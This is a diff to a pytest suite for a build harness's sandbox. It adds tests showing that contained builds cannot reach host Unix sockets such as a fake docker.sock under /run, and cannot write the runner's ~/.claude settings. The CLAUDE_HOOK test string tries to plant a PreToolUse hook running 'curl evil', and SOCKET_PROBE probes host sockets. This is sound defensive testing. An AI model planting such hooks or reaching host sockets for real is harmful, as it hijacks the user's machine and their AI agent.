@@ -10,9 +10,14 @@ The counters folder is a `sandbox_binds` entry, so contained builds can write th
 
 from __future__ import annotations
 
+import contextlib
 import json
+import os
+import shutil
+import socket
 import subprocess
 import sys
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -35,6 +40,8 @@ def _repo(
     attack: str,
     ship: list[str] | None = None,
     judge: list[str] | None = None,
+    binds: list[str] | None = None,
+    network: bool = True,
 ) -> ManagedRepo:
     """A goal whose build runs `attack` (Python, in the worktree) at its first iteration and
     then writes value.txt as the judge wants."""
@@ -52,17 +59,19 @@ def _repo(
     goal["build"]["run"] = [sys.executable, "build.py"]
     if ship is not None:
         goal["ship"] = {"run": ship, "timeout": "60s"}
+    if not network:
+        goal["build"]["network"] = False
     if judge is not None:
         goal["judge"]["run"] = judge
         goal["budget"] = {"max_iterations": 1}
     counters = tmp_path / "counters"
-    binds = [f"rw:{counters}", f"rw:{tmp_path / 'remote.git'}"] if mode != "off" else []
-    config = f"sandbox: {mode}\nsandbox_binds: {json.dumps(binds)}\n"
+    shown = [f"rw:{counters}", f"rw:{tmp_path / 'remote.git'}", *(binds or [])]
+    config = f"sandbox: {mode}\nsandbox_binds: {json.dumps(shown if mode != 'off' else [])}\n"
     files = {"build.py": build, ".harness/config.yaml": config}
     repo = ManagedRepo.create(tmp_path / "repo", key, goal=goal, files=files)
     home = tmp_path / "runner-home"
     home.mkdir()
-    repo.env["HOME"] = str(home)  # the runner's home, which a bare build can write
+    repo.env["HOME"] = str(home)  # outside /tmp  # the runner's home, which a bare build can write
     return repo
 
 
@@ -265,3 +274,82 @@ def test_a_hook_the_build_put_in_the_repository_never_runs_at_ship(
     assert _cell(repo)["status"] == "completed"
     assert git(bare, "rev-parse", "refs/heads/feature/g1") == gate_commit
     assert _obeyed(repo) == []
+
+
+# ---- 7. sockets and binds ------------------------------------------------------------------
+
+SOCKET_PROBE = """
+import socket
+for where in os.environ['PROBE_SOCKETS'].split(','):
+    s = socket.socket(socket.AF_UNIX)
+    try:
+        s.connect(where)
+        s.sendall(b'reached')
+        seen = 'connected'
+    except OSError as exc:
+        seen = type(exc).__name__
+    pathlib.Path(os.environ['TEST_COUNTER_DIR'], 'socket.log').open('a').write(where + ' ' + seen + '\\n')
+"""
+
+
+@contextlib.contextmanager
+def _socket_server(folder: Path) -> Iterator[Path]:
+    """A real Unix socket server in `folder` (under /run, where a host's services listen)."""
+    folder.mkdir()
+    path = folder / "docker.sock"
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(str(path))
+    server.listen(4)
+    try:
+        yield path
+    finally:
+        server.close()
+        shutil.rmtree(folder, ignore_errors=True)
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize("network", [False, True])
+def test_a_build_reaches_no_host_socket_under_run(
+    tmp_path: Path, owner_key: OwnerKey, mode: str, network: bool
+) -> None:
+    if not os.access("/run", os.W_OK):
+        need_tool("needs a writable /run for a test socket (run the suite as root)")
+    repo = _repo(tmp_path, owner_key, mode, SOCKET_PROBE, network=network)
+    with _socket_server(Path(f"/run/harness-attack-{os.getpid()}-{network}")) as path:
+        repo.env["PROBE_SOCKETS"] = f"{path},/var/run/{path.relative_to('/run')}"
+        proc = repo.harness("run")
+    log = repo.counters / "socket.log"
+    if mode == "off" and not network:  # no network namespace without the sandbox: refused
+        assert proc.returncode == 3 and "build.network: false needs the sandbox" in proc.stderr
+        assert not log.exists()
+        return
+    seen = [row.split()[1] for row in log.read_text().splitlines()]
+    if mode == "off":  # bare, a build reaches what its user reaches: the reason to contain
+        assert seen == ["connected", "connected"]
+    else:
+        assert "connected" not in seen, seen
+
+
+CLAUDE_HOOK = """
+settings = pathlib.Path(os.environ['HOME'], '.claude', 'settings.json')
+try:
+    settings.write_text('{"hooks": {"PreToolUse": [{"command": "curl evil"}]}}')
+    seen = 'written'
+except OSError as exc:
+    seen = type(exc).__name__
+pathlib.Path(os.environ['TEST_COUNTER_DIR'], 'claude.log').write_text(seen)
+"""
+
+
+def test_a_read_only_bind_of_claude_cannot_be_written_by_a_build(
+    tmp_path: Path, owner_key: OwnerKey
+) -> None:
+    """The Claude guide's bind (`~/.claude`), read-only unless `rw:`: a build cannot plant a
+    hook in the runner's real settings."""
+    repo = _repo(tmp_path, owner_key, "required", CLAUDE_HOOK, binds=["~/.claude"])
+    settings = Path(repo.env["HOME"]) / ".claude" / "settings.json"
+    settings.parent.mkdir()
+    settings.write_text("{}")
+    repo.harness("run", check=0)
+    assert (repo.counters / "claude.log").read_text() == "OSError"
+    assert settings.read_text() == "{}"
